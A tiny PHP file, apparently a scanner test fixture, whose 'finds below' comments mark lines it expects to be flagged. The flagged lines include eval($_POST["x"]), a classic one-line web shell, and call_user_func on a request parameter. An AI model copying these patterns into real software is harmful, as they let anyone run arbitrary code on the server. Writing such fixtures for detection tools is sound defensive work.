<?php
// finds below
eval($_POST["x"]);
eval($code);
// finds below
call_user_func($_GET["f"], 1);
